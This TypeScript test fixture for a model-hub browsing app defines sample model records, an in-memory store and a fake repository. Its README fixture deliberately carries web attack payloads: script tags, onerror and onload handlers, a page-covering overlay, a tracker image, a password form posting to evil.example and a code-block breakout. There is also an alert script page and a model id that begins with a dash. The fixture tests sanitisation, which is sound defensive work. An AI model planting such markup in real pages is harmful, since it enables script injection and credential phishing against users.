import type { ModelRecord } from "@vitrine/model";
import type { ByteRange, OpenFile, Repositories } from "@vitrine/sources";
import type { Store } from "../server/store.ts";
import { testStore } from "./site.ts";

/** An image of one pixel. */
const PIXEL = Buffer.from(
	"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
	"base64",
);

/** A card with everything that cards may contain, and with attacks. */
export const CARD = `---
license: apache-2.0
---
# Parser

[Usage](#usage), [the licence](LICENSE), [elsewhere](https://example.org/), [nothing](missing.md)

![A chart](img/chart.png) ![Tracker](https://evil.example/pixel.gif)

<script>window.harmed = true</script><img src=x onerror="window.harmed = true"><svg onload="window.harmed = true"></svg>
<div id="main" style="position:fixed;inset:0">Over everything</div>
<form action="https://evil.example"><input name="password"></form>

## Usage

\`\`\`python
print("hello")  # </code><script>window.harmed = true</script>
\`\`\`

| Benchmark | 8B |
|-----------|---:|
| MMLU      | 69 |

> [!WARNING]
> Not for [flying](LICENSE).

- [x] trained
- [ ] measured, see[^1]

[^1]: One day.
`;

const FILES: Readonly<Record<string, string | Buffer>> = {
	"README.md": CARD,
	LICENSE: "Do as you like.",
	"config.json": '{"model_type": "llama", "note": "<b>bold</b>"}',
	"img/chart.png": PIXEL,
	"model.safetensors": Buffer.from([0, 1, 2, 255]),
	"page.html": "<script>alert(1)</script>",
};

/** A model with all its files. */
export const PARSER: ModelRecord = {
	id: "acme/parser",
	tags: ["transformers", "conversational", "base_model:finetune:acme/base"],
	pipeline_tag: "text-generation",
	library_name: "transformers",
	downloads: 4321,
	likes: 12,
	lastModified: "2026-11-20T00:00:00Z",
	usedStorage: 9_000,
	gated: "manual",
	safetensors: { parameters: { BF16: 1_000_000, F32: 10 }, total: 1_000_010 },
	config: {
		model_type: "llama",
		architectures: ["LlamaForCausalLM"],
		tokenizer_config: { chat_template: "{{ messages }}" },
	},
	transformersInfo: { auto_model: "AutoModelForCausalLM", processor: "AutoTokenizer" },
	cardData: {
		license: "apache-2.0",
		language: ["en", "de", "fr", "zh"],
		base_model: "acme/base",
		"model-index": [
			{
				results: [
					{
						task: { name: "Text Generation" },
						dataset: { name: "MMLU", split: "test" },
						metrics: [{ type: "acc", value: 0.694_321_9 }, { value: "n/a", name: "other" }, { nothing: 1 }],
					},
				],
			},
			"not a result",
		],
	},
};

/** A chat model with two providers. */
export const SERVED: ModelRecord = {
	id: "acme/served",
	tags: ["transformers", "conversational"],
	pipeline_tag: "text-generation",
	library_name: "transformers",
	downloads: 99,
	inferenceProviderMapping: {
		together: { providerId: "acme/served-turbo", status: "live", task: "conversational" },
		cohere: { providerId: "served", status: "error", task: "conversational" },
		"fireworks-ai": { providerId: "accounts/acme/served", status: "live", task: "conversational" },
	},
};

/** Enough models for several pages of a list. */
const CROWD: readonly ModelRecord[] = Array.from({ length: 45 }, (_, at) => ({
	id: `crowd/model-${String(at).padStart(2, "0")}`,
	tags: ["timm", "license:mit", at % 2 === 0 ? "en" : "de"],
	pipeline_tag: "image-classification",
	library_name: "timm",
	downloads: 1000 - at,
	likes: at,
	lastModified: `2026-0${(at % 9) + 1}-01T00:00:00Z`,
}));

export const SHELF: readonly ModelRecord[] = [
	PARSER,
	SERVED,
	...CROWD,
	{ id: "acme/speech", tags: [], pipeline_tag: "automatic-speech-recognition", library_name: "speechbrain" },
	{ id: "acme/old", tags: [], pipeline_tag: "text2text-generation", library_name: "no-such-library" },
	{ id: "acme/quiet", tags: [] },
	{ id: "acme/hidden", tags: [], pipeline_tag: "table-to-text" },
	{ id: "acme/depth", tags: ["transformers"], pipeline_tag: "depth-estimation", library_name: "transformers" },
];

/** Models that apps run locally: one with GGUF files, one that generates images, one whose id looks like an option. */
export const RUNNABLE: readonly [gguf: ModelRecord, images: ModelRecord, dashed: ModelRecord] = [
	{
		id: "acme/parser-gguf",
		tags: ["gguf", "conversational"],
		pipeline_tag: "text-generation",
		gguf: { total: 8_000_000_000, architecture: "llama", context_length: 8192, chat_template: "{{ tools }}" },
		siblings: [
			{ rfilename: "README.md", size: 100 },
			{ rfilename: "parser-Q4_K_M.gguf", size: 4_900_000_000 },
			{ rfilename: "parser-Q8_0.gguf", size: 8_500_000_000 },
			{ rfilename: "old/parser-F16.gguf", size: 16_000_000_000 },
			{ rfilename: "new/parser-F16.gguf" },
		],
	},
	{ id: "acme/painter", tags: ["diffusers"], pipeline_tag: "text-to-image", library_name: "diffusers" },
	{ id: "-acme/parser", tags: ["transformers"], pipeline_tag: "text-generation", library_name: "transformers" },
];

/** A store in memory with these models, and the files of {@link PARSER}. */
export async function shelf(models: readonly ModelRecord[] = SHELF): Promise<Store> {
	const store = await testStore(models);
	return { ...store, repositories: ({ record }) => (record.id === PARSER.id ? repositories : undefined) };
}

const read: Repositories["read"] = async (_id, path, range) => {
	const content = FILES[path];
	return content === undefined ? undefined : new Uint8Array(Buffer.from(content).subarray(range?.start, range?.end));
};

const repositories: Repositories = {
	files: async (id) =>
		id === PARSER.id
			? Object.entries(FILES).map(([path, content]) => ({ path, size: Buffer.byteLength(content) }))
			: undefined,
	read,
	open: async (id, path) => {
		const bytes = await read(id, path);
		return bytes && opened(bytes);
	},
	stream: async (...asked) => {
		const bytes = await read(...asked);
		return bytes && one(bytes);
	},
	revision: async (id) => (id === PARSER.id ? "0123456789abcdef0123456789abcdef01234567" : undefined),
};

/** An open file of bytes in memory. */
export function opened(bytes: Uint8Array): OpenFile {
	const part = ({ start, end } = { start: 0, end: bytes.length }): Uint8Array => bytes.subarray(start, end);
	const pieces = (range?: ByteRange): AsyncIterable<Uint8Array> => one(part(range));
	return { size: bytes.length, modified: 0, read: async (range) => part(range), pieces, close: async () => {} };
}

async function* one(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
	yield bytes;
}
